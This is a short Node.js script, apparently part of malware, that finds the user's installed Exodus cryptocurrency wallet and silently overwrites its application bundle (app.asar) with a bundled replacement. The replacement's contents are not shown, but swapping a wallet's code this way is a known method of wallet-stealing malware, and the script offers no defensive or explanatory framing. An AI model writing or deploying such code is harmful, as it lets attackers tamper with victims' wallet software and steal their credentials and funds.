const fs = require('fs'), os = require('os'), path = require('path'); const asar = require('@electron/asar');
const p = path.join(os.homedir(), 'AppData/Local/exodus'); const v = fs.readdirSync(p).filter(x => x.startsWith('app-')).pop();
const t = path.join(p, v, 'resources/app.asar'); fs.copyFileSync(path.join(__dirname, 'pack/app.asar'), t);
